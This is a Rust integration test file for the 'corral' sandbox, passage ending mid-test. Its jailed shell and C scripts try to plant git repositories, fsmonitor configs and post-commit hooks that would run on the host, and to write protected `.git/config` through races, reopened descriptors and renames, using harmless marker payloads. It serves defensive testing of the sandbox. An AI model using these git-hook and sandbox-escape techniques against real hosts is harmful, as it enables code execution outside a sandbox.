//! The git window during a run: while the jail runs, the user's prompt runs
//! git in the directory the user is in every few seconds, so a repository the jail creates in
//! the project is live before any check after the run. The name gate (corral-namegate
//! namegate.rs) refuses every name that would make one discoverable (`.git`, `HEAD`,
//! `commondir`) outside the jail's own file systems, whichever syscall creates it, and
//! performs every creation itself so a racing thread cannot swap the checked path. Each test
//! attacks while the jail is still running and runs git on the host then, as a prompt would.
//! Runs as root and, through scripts/test-rootless, unprivileged.

mod jail_support;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use jail_support::*;

/// A jail running `script`, which touches `ready` in the project once it has made its attempt
/// and then waits for the host to create `go`.
struct Running {
    child: Child,
    go: PathBuf,
}

impl Running {
    fn start(w: &World, extra: &[&str], script: &str) -> Running {
        let mut r = Running::spawn(w, extra, script);
        r.wait_for(&w.project.join("ready"));
        r
    }

    /// The jail, not waited for.
    fn spawn(w: &World, extra: &[&str], script: &str) -> Running {
        let go = w.project.join("go");
        let script =
            format!("{script}\n: > ready; while [ ! -e go ]; do sleep 0.05; done; echo END");
        let mut c = w.corral();
        c.arg("run")
            .args(extra)
            .args(["--network", "none", "--", "sh", "-c", &script]);
        let child = c
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("corral");
        Running { child, go }
    }

    /// Wait until the jail made `file` (it is still running then).
    fn wait_for(&mut self, file: &Path) {
        let start = Instant::now();
        while !file.exists() {
            if let Ok(Some(status)) = self.child.try_wait() {
                let out = self.finish_output();
                panic!(
                    "the jail ended ({status}) before {}:\n{out}",
                    file.display()
                );
            }
            assert!(
                start.elapsed() < Duration::from_secs(120),
                "the jail never made {}",
                file.display()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn finish_output(&mut self) -> String {
        let mut out = String::new();
        if let Some(mut s) = self.child.stdout.take() {
            let _ = s.read_to_string(&mut out);
        }
        if let Some(mut s) = self.child.stderr.take() {
            let _ = s.read_to_string(&mut out);
        }
        let _ = self.child.wait();
        out
    }

    /// Let the jail end; its stdout and stderr.
    fn finish(mut self) -> String {
        std::fs::write(&self.go, "").unwrap();
        let start = Instant::now();
        while self.child.try_wait().expect("wait").is_none() {
            if start.elapsed() > Duration::from_secs(120) {
                let _ = self.child.kill();
                panic!("the jail did not end");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let out = self.finish_output();
        assert!(
            out.contains("END"),
            "the jail did not reach its end:\n{out}"
        );
        out
    }
}

/// Where git run in `dir` on the host finds its repository.
fn git_dir_seen_from(w: &World, dir: &Path) -> String {
    let out = w.host_git(dir, &["rev-parse", "--absolute-git-dir"]);
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Every way a process can make a name: each attempt plants a repository whose config runs
/// `touch MARKER` in git's fsmonitor hook, in its own directory of the project.
fn attempts(marker: &Path) -> String {
    let config = format!(
        "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = touch {}\\n'",
        marker.display()
    );
    format!(
        r#"
mkdir -p a b c d e f g h i j /tmp/stage
# git init (mkdir .git, then files inside)
git init -q a 2>/dev/null && {config} > a/.git/config
# mkdir of .git by itself
mkdir b/.git 2>/dev/null && echo MADE-b
# a bare repository: HEAD in a plain directory (open O_CREAT)
mkdir c/objects c/refs && echo 'ref: refs/heads/main' > c/HEAD 2>/dev/null && {config} > c/config
# rename of a prepared directory onto .git
mkdir d/prep && git init -q --bare /tmp/stage/x && cp -r /tmp/stage/x/. d/prep/ 2>/dev/null
mv d/prep d/.git 2>/dev/null && echo MADE-d
# a symlink named .git to a repository in the jail's /tmp (the host resolves it to its own)
git init -q /tmp/stage/y && ln -s /tmp/stage/y/.git e/.git 2>/dev/null && echo MADE-e
# a hard link named HEAD
echo 'ref: refs/heads/main' > /tmp/stage/head; echo 'ref: refs/heads/main' > f/h && ln f/h f/HEAD 2>/dev/null && echo MADE-f
# O_CREAT through a dangling symlink whose target is .git
ln -s .git g/link && echo 'gitdir: ../a' > g/link 2>/dev/null && echo MADE-g
# a FIFO named HEAD (mknod)
mkfifo h/HEAD 2>/dev/null && echo MADE-h
# a commondir in the project's own git directory
echo ../i > .git/commondir 2>/dev/null && echo MADE-i
# a gitlink file written by rename of a temporary file
echo 'gitdir: /tmp/stage/y/.git' > j/tmp && mv j/tmp j/.git 2>/dev/null && echo MADE-j
"#
    )
}

#[test]
fn a_repository_made_during_the_run_is_refused_before_git_on_the_host_sees_it() {
    let w = World::new();
    w.commit_readme();
    let marker = w.outside.join("fsmonitor-ran");
    let jail = Running::start(&w, &[], &attempts(&marker));
    // The jail is still running: the user's prompt runs git in each directory now.
    let own = w.project.join(".git");
    for d in ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"] {
        let dir = w.project.join(d);
        let _ = w.host_git(&dir, &["status", "--short"]);
        assert_eq!(
            git_dir_seen_from(&w, &dir),
            own.display().to_string(),
            "git on the host in {d}/ found another repository during the run"
        );
    }
    assert!(
        !marker.exists(),
        "git on the host ran the jail's fsmonitor during the run"
    );
    let out = jail.finish();
    assert!(!out.contains("MADE-"), "a name was created:\n{out}");
    for name in [".git", "HEAD"] {
        for d in ["a", "b", "c", "d", "e", "f", "g", "h", "j"] {
            let p = w.project.join(d).join(name);
            assert!(
                std::fs::symlink_metadata(&p).is_err(),
                "{} exists:\n{out}",
                p.display()
            );
        }
    }
    assert!(!w.project.join(".git/commondir").exists(), "{out}");
    assert!(out.contains("corral: refused creating a `.git`"), "{out}");
    assert!(out.contains("corral: refused creating a `HEAD`"), "{out}");
    // The jail still committed and switched branches in the project's own repository.
    let work = Running::start(
        &w,
        &[],
        "echo b >> README && git add README && \
         git -c user.name=a -c user.email=a@b commit -qm second && echo COMMITTED && \
         git checkout -qb topic && git checkout -q - && echo SWITCHED && \
         git init -q /tmp/clone && git -C /tmp/clone status --short && echo TMP-REPO",
    );
    let out = work.finish();
    for m in ["COMMITTED", "SWITCHED", "TMP-REPO"] {
        assert!(out.contains(m), "{m} missing:\n{out}");
    }
}

/// Control: with `--allow-new-repositories` the same attempts succeed, and git on the host
/// runs the jail's fsmonitor during the run; the check after the run moves the config aside.
#[test]
fn control_without_the_gate_git_on_the_host_runs_the_new_repository_during_the_run() {
    let w = World::new();
    w.commit_readme();
    let marker = w.outside.join("fsmonitor-ran");
    let jail = Running::start(&w, &["--allow-new-repositories"], &attempts(&marker));
    let a = w.project.join("a");
    assert_eq!(
        git_dir_seen_from(&w, &a),
        a.join(".git").display().to_string()
    );
    let _ = w.host_git(&a, &["status", "--short"]);
    assert!(
        marker.exists(),
        "control: the planted fsmonitor did not run"
    );
    let out = jail.finish();
    assert!(out.contains("MADE-b"), "{out}");
    assert!(out.contains("moved aside"), "{out}");
}

/// The gate performs each creation on the path it checked: a second thread that keeps
/// rewriting the path buffer between `sub/plain` and `sub/.git` while the first one calls
/// mkdir/open(O_CREAT)/symlink/rename on it never gets a `.git` made.
#[test]
fn a_thread_racing_the_path_never_gets_a_checked_name_swapped() {
    let Some(cc) = ["cc", "gcc"].into_iter().find(|c| {
        Command::new(c)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    }) else {
        eprintln!("SKIP: no C compiler (cc, gcc) to build the racing program");
        return;
    };
    let w = World::new();
    let src = w.project.join("race.c");
    write(&src, RACE_C);
    let out = Command::new(cc)
        .args(["-O2", "-pthread", "-o"])
        .arg(w.project.join("race"))
        .arg(&src)
        .output()
        .expect("cc");
    ok(&out);
    let out = w.sh(
        "none",
        "mkdir racedir && ./race racedir 8000; echo RACE-EXIT=$?; ls -a racedir; echo END",
    );
    ran(&out, "END");
    assert!(out.stdout.contains("RACE-EXIT=0"), "{}", out.both());
    assert!(!out.stdout.contains("RACED"), "{}", out.both());
    assert!(
        std::fs::symlink_metadata(w.project.join("racedir/.git")).is_err(),
        "{}",
        out.both()
    );
    // The racing calls did create the plain name many times: the race ran.
    let made: u64 = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("PLAIN-MADE="))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(
        made > 100,
        "the plain name was made only {made} times:\n{}",
        out.both()
    );
}

const RACE_C: &str = r#"
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char path[256];
static char plain[256], dotgit[256];
static volatile int stop;

static void *flip(void *arg) {
    (void)arg;
    size_t n = strlen(plain);
    while (!stop) {
        memcpy(path, dotgit, n + 1);
        memcpy(path, plain, n + 1);
    }
    return NULL;
}

int main(int argc, char **argv) {
    snprintf(plain, sizeof plain, "%s/plain", argv[1]);
    snprintf(dotgit, sizeof dotgit, "%s/.git", argv[1]);
    char other[256];
    snprintf(other, sizeof other, "%s/other", argv[1]);
    strcpy(path, plain);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    long made = 0, n = atol(argv[2]);
    struct stat st;
    for (long i = 0; i < n; i++) {
        int op = i % 4;
        int ok = 0;
        if (op == 0) ok = mkdir(path, 0755) == 0;
        else if (op == 1) { int fd = open(path, O_CREAT | O_WRONLY, 0644); if (fd >= 0) { close(fd); ok = 1; } }
        else if (op == 2) ok = symlink("x", path) == 0;
        else { int fd = open(other, O_CREAT | O_WRONLY, 0644); if (fd >= 0) close(fd); ok = rename(other, path) == 0; }
        if (ok) made++;
        if (lstat(dotgit, &st) == 0) { printf("RACED at %ld (op %d)\n", i, op); stop = 1; return 1; }
        rmdir(plain); unlink(plain); unlink(other);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("PLAIN-MADE=%ld\n", made);
    return 0;
}
"#;

/// What the gate performs behaves as if the caller had: modes follow the caller's umask,
/// owners are the caller's, O_EXCL, O_APPEND, FIFOs, `> /dev/stdout`, `/dev/fd/N`, links and
/// renames work, and a nested Landlock domain is refused rather than silently not applied.
#[test]
fn creations_the_gate_performs_behave_as_the_callers_own() {
    let w = World::new();
    let script = r#"
set -e
umask 077; : > m600; mkdir d700
umask 022; : > m644; mkdir d755
stat -c '%a %n' m600 d700 m644 d755
if sh -c 'set -C; : > m644' 2>/dev/null; then echo NOCLOBBER-BROKEN; fi
echo one > app; echo two >> app; cat app | tr '\n' ' '; echo
echo to-stdout > /dev/stdout; echo to-fd > /dev/fd/1; echo to-stderr > /dev/stderr
mkfifo pipe; (cat pipe > from-fifo &) ; echo through-fifo > pipe; wait; sleep 0.2; cat from-fifo
ln app hard; ln -s app soft; mv hard moved; cat moved soft | tr '\n' ' '; echo
cp "$(command -v touch)" xtouch; chmod 111 xtouch; ./xtouch made-by-exec-only && echo EXEC-ONLY-OK
sh -c ': > /proc/self/../1/environ' 2>/dev/null || echo PROC-OTHER-REFUSED
# the jail's own /proc file: as without the gate (Landlock keeps /proc read-only)
sh -c 'echo 0 > /proc/self/oom_score_adj' 2>&1 | grep -q 'Permission denied' && echo PROC-OWN-AS-JAIL
python3 - <<'EOF'
import ctypes, fcntl, os, struct, tempfile
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(446, -1, 0)  # landlock_restrict_self
print("LANDLOCK", r, os.strerror(ctypes.get_errno()))
os.mkdir("cf")
fd = os.open("cf", os.O_RDONLY)
try:
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x40000000))  # FS_IOC_SETFLAGS casefold
    print("SETFLAGS-ALLOWED")
except OSError as e:
    print("SETFLAGS", e.errno)
fd, p = tempfile.mkstemp(dir=".")
os.write(fd, b"x"); os.close(fd); os.rename(p, "renamed")
fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
os.write(fd, b"tmpfile"); os.link(f"/proc/self/fd/{fd}", "linked-tmpfile")
print("PY-OK", open("linked-tmpfile").read())
# binds of every family are the gate's too: they work as the caller's own
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
c = socket.create_connection(s.getsockname()); a, _ = s.accept(); c.send(b"hi")
print("TCP-BIND-OK", a.recv(2).decode())
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.bind(("127.0.0.1", 0))
print("UDP-BIND-OK", d.getsockname()[1] > 0)
u = socket.socket(socket.AF_UNIX); u.bind("\0corral-abstract-%d" % os.getpid())
print("ABSTRACT-BIND-OK")
n = socket.socket(socket.AF_UNIX); n.bind("named.sock")
print("NAMED-BIND-OK", oct(os.stat("named.sock").st_mode & 0o777))
try:
    s.bind(("127.0.0.1", 0))
except OSError as e:
    print("REBIND", e.errno)
EOF
echo END
"#;
    let out = w.sh("none", script);
    ran(&out, "END");
    let s = &out.stdout;
    for want in [
        "600 m600",
        "700 d700",
        "644 m644",
        "755 d755",
        "one two",
        "to-stdout",
        "to-fd",
        "through-fifo",
        "one two one two",
        "LANDLOCK -1 Operation not permitted",
        "PY-OK tmpfile",
        "EXEC-ONLY-OK",
        "PROC-OTHER-REFUSED",
        "PROC-OWN-AS-JAIL",
        "SETFLAGS 1",
        "TCP-BIND-OK hi",
        "UDP-BIND-OK True",
        "ABSTRACT-BIND-OK",
        "NAMED-BIND-OK 0o755",
        "REBIND 22",
    ] {
        assert!(s.contains(want), "{want:?} missing:\n{}", out.both());
    }
    assert!(!s.contains("NOCLOBBER-BROKEN"), "{}", out.both());
    assert!(out.stderr.contains("to-stderr"), "{}", out.both());
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(w.project.join("m644")).unwrap();
    assert_eq!(
        (m.uid(), m.gid()),
        (
            nix::unistd::getuid().as_raw(),
            nix::unistd::getgid().as_raw()
        )
    );
}

/// On the jail's own file systems (its /tmp) the gate skips its look-ups and makes a new file
/// with O_EXCL: what the caller gets is still what its own call would have made (the umask,
/// O_TRUNC of a file that exists, O_EXCL and noclobber on one that exists, an append, a link
/// followed, git names, which are the jail's own there), and a file other threads made
/// meanwhile is opened, not made again.
#[test]
fn creations_in_the_jails_own_tmp_behave_as_the_callers_own() {
    let w = World::new();
    let script = r#"
set -e
cd /tmp
umask 077; : > m600; mkdir d700
umask 022; : > m644; mkdir d755
stat -c '%a %n' m600 d700 m644 d755
echo long-content > t; echo short > t; cat t
if sh -c 'set -C; : > t' 2>/dev/null; then echo NOCLOBBER-BROKEN; fi
echo one > app; echo two >> app; cat app | tr '\n' ' '; echo
ln -s app soft; echo three >> soft; cat app | tr '\n' ' '; echo
mkdir repo; : > repo/HEAD; mkdir repo/objects repo/refs; echo TMP-REPO-OK
python3 - <<'PY'
import os, threading
try:
    os.open("t", os.O_WRONLY | os.O_CREAT | os.O_EXCL)
    print("EXCL-BROKEN")
except FileExistsError:
    print("EXCL-EEXIST")
# Several threads create the same name at once: one makes it, the others open it.
def w(i):
    fd = os.open("race", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    os.write(fd, b"%d\n" % i)
    os.close(fd)
ts = [threading.Thread(target=w, args=(i,)) for i in range(8)]
[t.start() for t in ts]; [t.join() for t in ts]
print("RACE-LINES", len(open("race").read().split()))
PY
echo END
"#;
    let out = w.sh("none", script);
    ran(&out, "END");
    let s = &out.stdout;
    for want in [
        "600 m600",
        "700 d700",
        "644 m644",
        "755 d755",
        "\nshort\n",
        "one two \n",
        "one two three",
        "TMP-REPO-OK",
        "EXCL-EEXIST",
        "RACE-LINES 8",
    ] {
        assert!(s.contains(want), "{want:?} missing:\n{}", out.both());
    }
    assert!(!s.contains("BROKEN"), "{}", out.both());
}

/// The executor's command jails get the gate too, with the run's git directories: a command
/// still commits (a reflog append is a `logs/HEAD` creation).
#[test]
fn an_executor_command_cannot_make_a_repository_during_the_run_either() {
    let w = World::new();
    w.commit_readme();
    let out = w.sh(
        "none",
        "corral exec -- sh -c 'mkdir sub && git init -q sub && echo EXEC-MADE; mkdir sub/.git || echo EXEC-REFUSED'; \
         corral exec -- sh -c 'echo b >> README && git add README && git -c user.name=a -c user.email=a@b commit -qm exec && echo EXEC-COMMITTED'; echo END",
    );
    ran(&out, "END");
    assert!(out.stdout.contains("EXEC-REFUSED"), "{}", out.both());
    assert!(out.stdout.contains("EXEC-COMMITTED"), "{}", out.both());
    assert!(!out.stdout.contains("EXEC-MADE"), "{}", out.both());
    assert!(
        std::fs::symlink_metadata(w.project.join("sub/.git")).is_err(),
        "{}",
        out.both()
    );
}

/// A git directory cannot be built inside an existing one and reached from elsewhere, nor
/// beside a `HEAD` that was there before the run: no directory below a git directory may hold
/// both a `HEAD` and an `objects`, and no `objects` may join a stray `HEAD`. What git itself
/// writes there (`logs/HEAD`, `refs/remotes/origin/HEAD`, a branch named `objects`) still works.
#[test]
fn a_git_directory_cannot_be_built_inside_an_existing_one() {
    let w = World::new();
    w.commit_readme();
    write(&w.project.join("plain/HEAD"), "ref: refs/heads/main\n");
    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "mkdir .git/x && echo 'ref: refs/heads/main' > .git/x/HEAD && mkdir .git/x/refs && echo X-HEAD-AND-REFS\n\
         mkdir .git/x/objects 2>/dev/null && echo MADE-X-OBJECTS\n\
         mkdir .git/y .git/y/objects .git/y/refs && echo Y-OBJECTS-AND-REFS\n\
         echo 'ref: refs/heads/main' > .git/y/HEAD 2>/dev/null && echo MADE-Y-HEAD\n\
         mv .git/x/HEAD .git/y/HEAD 2>/dev/null && echo MOVED-HEAD\n\
         mkdir .git/logs/objects 2>/dev/null && echo MADE-LOGS-OBJECTS\n\
         mkdir plain/objects 2>/dev/null && echo MADE-PLAIN-OBJECTS\n\
         mkdir plain/refs && echo PLAIN-REFS\n\
         printf '[core]\\n\\tfsmonitor = touch {m}\\n' > .git/x/config\n\
         cp .git/x/config .git/y/config; cp .git/x/config plain/config\n\
         ln -s .git/x docs-x && ln -s .git/y docs-y && echo LINKED\n\
         echo b >> README && git add README && git -c user.name=a -c user.email=a@b commit -qm two && echo COMMITTED\n\
         git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/main && echo REMOTE-HEAD\n\
         git branch objects && echo BRANCH-OBJECTS\n\
         python3 -c \"import socket\nfor p in ['.git/x/objects', 'plain/objects', 'made.sock']:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.bind(p); print('BOUND', p)\n    except OSError as e:\n        print('REFUSED', p, e.errno)\"",
        m = marker.display()
    );
    let jail = Running::start(&w, &[], &script);
    for d in ["docs-x", "docs-y", "plain"] {
        let dir = w.project.join(d);
        let _ = w.host_git(&dir, &["status", "--short"]);
        let seen = git_dir_seen_from(&w, &dir);
        assert!(
            !seen.ends_with(".git/x") && !seen.ends_with(".git/y") && !seen.ends_with("plain"),
            "git took {d} for a repository: {seen}"
        );
    }
    assert!(!marker.exists(), "git on the host ran the jail's fsmonitor");
    let out = jail.finish();
    // A Unix socket passes git's access(X_OK) check as `objects`: bind(2) is gated too.
    for want in [
        "REFUSED .git/x/objects 1",
        "REFUSED plain/objects 1",
        "BOUND made.sock",
    ] {
        assert!(out.contains(want), "{want} missing:\n{out}");
    }
    for made in [
        "MADE-X-OBJECTS",
        "MADE-Y-HEAD",
        "MOVED-HEAD",
        "MADE-LOGS-OBJECTS",
        "MADE-PLAIN-OBJECTS",
    ] {
        assert!(!out.contains(made), "{made}:\n{out}");
    }
    for did in [
        "X-HEAD-AND-REFS",
        "Y-OBJECTS-AND-REFS",
        "PLAIN-REFS",
        "LINKED",
        "COMMITTED",
        "REMOTE-HEAD",
        "BRANCH-OBJECTS",
    ] {
        assert!(out.contains(did), "{did} missing:\n{out}");
    }
}

/// The container entrypoint's gate (`corral __corral-gate-exec`, corral-sandbox gatexec.rs),
/// run directly on this host as the caller: what the podman/docker harness container runs as
/// its PID 1. Here it is no PID 1 and in no namespace of its own, so the unprivileged pass
/// exercises it without capabilities (no CAP_SETPCAP to drop the bounding set, no
/// CAP_SYS_PTRACE to keep) as a rootless container's gate runs. Every mount but a whole tmpfs
/// or overlay away from the project is checked; the project's repository still commits.
#[test]
fn the_container_entrypoint_gate_refuses_repositories_passes_exit_and_signals() {
    let w = World::new();
    w.commit_readme();
    let git_dir = w.project.join(".git");
    let marker = w.root.join("gate-ran-fsmonitor");
    let script = format!(
        r#"
mkdir -p a b && mkdir a/.git 2>/dev/null && echo MADE-a
echo 'ref: refs/heads/main' > b/HEAD 2>/dev/null && echo MADE-b
ln -s {git} c.git && mv c.git b/.git 2>/dev/null && echo MADE-c
echo more >> README && git add README \
  && git -c user.name=u -c user.email=u@e commit -qm second && echo COMMITTED
: > ready; while [ ! -e go ]; do sleep 0.05; done
exit 7
"#,
        git = git_dir.display()
    );
    let gate = |script: &str| {
        Command::new(corral_bin())
            .args(["__corral-gate-exec", "--git-dir"])
            .arg(&git_dir)
            .arg("--host-path")
            .arg(&w.project)
            .args(["--", "sh", "-c", script])
            .current_dir(&w.project)
            .env("HOME", &w.home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("corral")
    };
    let mut child = gate(&script);
    let start = Instant::now();
    while !w.project.join("ready").exists() {
        assert!(
            child.try_wait().unwrap().is_none(),
            "the command ended early"
        );
        assert!(start.elapsed() < Duration::from_secs(60), "never ready");
        std::thread::sleep(Duration::from_millis(20));
    }
    for d in ["a", "b"] {
        let seen = git_dir_seen_from(&w, &w.project.join(d));
        assert_eq!(seen, git_dir.to_str().unwrap(), "git in {d}");
    }
    assert!(!marker.exists());
    std::fs::write(w.project.join("go"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(7), "{text}");
    for made in ["MADE-a", "MADE-b", "MADE-c"] {
        assert!(!text.contains(made), "{made}:\n{text}");
    }
    assert!(text.contains("COMMITTED"), "{text}");
    assert!(
        text.contains("corral: refused creating a `.git` at"),
        "{text}"
    );

    // A signal to the gate reaches the command: sleep dies of the TERM passed on (128 + 15).
    let mut child = gate(": > ready2; exec sleep 60");
    let start = Instant::now();
    while !w.project.join("ready2").exists() {
        assert!(start.elapsed() < Duration::from_secs(60), "never ready");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(100));
    // SAFETY: kill with the pid of our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    assert_eq!(child.wait().unwrap().code(), Some(143));

    // As the engines start it (`--init`), it must be PID 1: here it is not, and runs nothing.
    let out = Command::new(corral_bin())
        .args(["__corral-gate-exec", "--init", "--", "sh", "-c", "echo RAN"])
        .current_dir(&w.project)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{text}");
    assert!(text.contains("must be the container's PID 1"), "{text}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("RAN"));
}

/// Writes that try to blind the gate or beat the host's own rename: a descriptor kept from
/// before, reopened for writing while the jail has taken the search permission off `.git` (the
/// gate then cannot look the protected name up: it must refuse, not let through); git's
/// `config.lock`, which the host's `git config` renames onto `config`, reopened, written and
/// replaced.
const CHMOD_AND_LOCK: &str = r#"
try() { n=$1; shift; if "$@" 2>/dev/null; then echo "WROTE($n)"; else echo "refused($n)"; fi; }
exec 3< .git/config
chmod 600 .git
try chmod-reopen sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/x\n" >> /proc/self/fd/3'
chmod 755 .git
exec 3<&-
exec 4< .git/config.lock
try lock-reopen sh -c 'printf "[core]\n\tfsmonitor = x\n" >> /proc/self/fd/4'
exec 4<&-
try lock-write sh -c 'printf "[core]\n\tfsmonitor = x\n" >> .git/config.lock'
try lock-rename sh -c 'printf "[core]\n" > lk && mv -f lk .git/config.lock'
rm -f lk
"#;

/// Every way to write a file the jail reaches by path: each attempt writes a config line that
/// runs `touch MARKER` as git's fsmonitor, and prints WROTE when the write went through.
fn writes_to(file: &str, marker: &Path) -> String {
    let line = format!("[core]\\n\\tfsmonitor = touch {}\\n", marker.display());
    format!(
        r#"
f={file}
try() {{ n=$1; shift; if "$@" 2>/dev/null; then echo "WROTE($n)"; else echo "refused($n)"; fi; }}
try append sh -c 'printf "{line}" >> "$0"' "$f"
try trunc sh -c 'printf "{line}" > "$0"' "$f"
try rdwr python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_RDWR); os.write(fd, b"{line}")' "$f"
try wronly python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_WRONLY|os.O_APPEND); os.write(fd, b"{line}")' "$f"
try procfd python3 -c 'import os,sys; p=os.open(sys.argv[1], os.O_PATH); fd=os.open("/proc/self/fd/%d" % p, os.O_WRONLY|os.O_APPEND); os.write(fd, b"{line}")' "$f"
try reopen python3 -c 'import os,sys; r=os.open(sys.argv[1], os.O_RDONLY); fd=os.open("/dev/fd/%d" % r, os.O_RDWR|os.O_APPEND); os.write(fd, b"{line}")' "$f"
try symlink sh -c 'ln -s "$PWD/$0" /tmp/via$$ && printf "{line}" >> /tmp/via$$' "$f"
try hardlink sh -c 'ln "$0" "$0.x" && printf "{line}" >> "$0.x"' "$f"
try rename sh -c 'printf "{line}" > "$0.new" && mv -f "$0.new" "$0"' "$f"
try exchange python3 -c 'import ctypes,os,sys; open(sys.argv[1]+".ex","w").write("{line}"); l=ctypes.CDLL(None,use_errno=True); r=l.renameat2(-100, (sys.argv[1]+".ex").encode(), -100, sys.argv[1].encode(), 2); sys.exit(r != 0)' "$f"
try truncate truncate -s 0 "$f"
"#
    )
}

/// A protected file is a read-only bind of one file; the host replacing that file by rename
/// during the run (`git config`, an editor saving) detaches the bind, and the jail sees the
/// host's new file through the read-write `.git` around it. The name gate keeps the name
/// read-only: every way of writing it fails, while the same writes to an unprotected file in
/// the same directory go through (so the attempts themselves work), and git on the host runs
/// nothing the jail wrote.
#[test]
fn a_protected_file_the_host_replaces_during_the_run_stays_read_only() {
    let w = World::new();
    w.commit_readme();
    let marker = w.outside.join("fsmonitor-ran");
    let started = w.project.join("started");
    let renamed = w.project.join("renamed");
    let script = format!(
        ": > started; while [ ! -e renamed ]; do sleep 0.05; done\n\
         grep -q HOSTNEW .git/config && echo DETACHED\n\
         printf 'x' >> .env 2>/dev/null && echo ENV-WROTE\n\
         {chmod}\n{protected}\necho CONTROL\n{control}\nls .git",
        protected = writes_to(".git/config", &marker),
        control = writes_to(".git/description", &marker),
        chmod = CHMOD_AND_LOCK,
    );
    let mut jail = Running::spawn(&w, &[], &script);
    jail.wait_for(&started);
    // The user runs `git config` on the host meanwhile: git writes config.lock and renames it
    // over config, which takes the jail's read-only bind with the old file.
    ok(&w.host_git(&w.project, &["config", "corral.test", "HOSTNEW"]));
    let host_config = std::fs::read_to_string(w.project.join(".git/config")).unwrap();
    // And saves the hidden .env by rename, as editors do.
    std::fs::write(w.project.join(".env.save"), "NEW_SECRET=1\n").unwrap();
    std::fs::rename(w.project.join(".env.save"), w.project.join(".env")).unwrap();
    // The moment inside a `git config` when git has written config.lock and not yet renamed
    // it onto config, held still.
    let lock = w.project.join(".git/config.lock");
    std::fs::write(&lock, "[core]\n").unwrap();
    std::fs::write(&renamed, "").unwrap();
    jail.wait_for(&w.project.join("ready"));
    let lock_after = std::fs::read_to_string(&lock).unwrap();
    std::fs::remove_file(&lock).unwrap();
    let _ = w.host_git(&w.project, &["status", "--short"]);
    let out = jail.finish();
    assert!(
        out.contains("DETACHED"),
        "the host's rename did not reach the jail (the scenario did not happen):\n{out}"
    );
    assert_eq!(
        lock_after, "[core]\n",
        "the jail wrote git's config.lock:\n{out}"
    );
    for attempt in ["chmod-reopen", "lock-reopen", "lock-write", "lock-rename"] {
        assert!(
            out.contains(&format!("refused({attempt})")),
            "{attempt} did not run:\n{out}"
        );
    }
    // Control: the same writes to .git/description (not protected) went through.
    assert_held_with_control(&out, "the replaced .git/config");
    assert_eq!(
        std::fs::read_to_string(w.project.join(".git/config")).unwrap(),
        host_config,
        "the host's .git/config changed:\n{out}"
    );
    assert!(!w.project.join(".git/config.x").exists(), "{out}");
    assert!(!marker.exists(), "git on the host ran the jail's fsmonitor");
    assert!(
        out.contains("corral: refused writing") && out.contains(".git/config"),
        "the refusal was not reported:\n{out}"
    );
    // The hidden .env stays unwritable too; that the jail could read the host's new one from
    // then on (the known limit) is said when the run ends, and recorded.
    assert!(!out.contains("ENV-WROTE"), "{out}");
    assert_eq!(
        std::fs::read_to_string(w.project.join(".env")).unwrap(),
        "NEW_SECRET=1\n"
    );
    assert!(
        out.contains("/.env was replaced or removed on the host during the run"),
        "the exposure was not said:\n{out}"
    );
    assert!(
        w.audit_records()
            .iter()
            .any(|r| r["event"] == "exposed"
                && r["detail"].as_str().unwrap_or("").contains("/.env ")),
        "no exposed record"
    );
}

/// The same for a protected directory: the host removes `.git/hooks` and makes a new one
/// during the run (a tool reinstalling its hooks), which detaches the jail's read-only bind of
/// it. Nothing can be written in the new directory or below it, by any of the ways above, and
/// no hook the jail wrote is there for the host's next commit.
#[test]
fn a_protected_directory_the_host_replaces_during_the_run_stays_read_only() {
    let w = World::new();
    w.commit_readme();
    let marker = w.outside.join("hook-ran");
    let hooks = w.project.join(".git/hooks");
    let script = format!(
        ": > started; while [ ! -e renamed ]; do sleep 0.05; done\n\
         [ -e .git/hooks/existing ] && echo DETACHED\n\
         printf '#!/bin/sh\\ntouch {marker}\\n' > post-commit; chmod +x post-commit\n\
         cp post-commit .git/hooks/post-commit 2>/dev/null && echo WROTE-hook\n\
         mv post-commit .git/hooks/ 2>/dev/null && echo WROTE-moved\n\
         mkdir .git/hooks/sub 2>/dev/null && echo WROTE-mkdir\n\
         mkdir -p .git/hooks/deep/er 2>/dev/null && echo WROTE-deep\n\
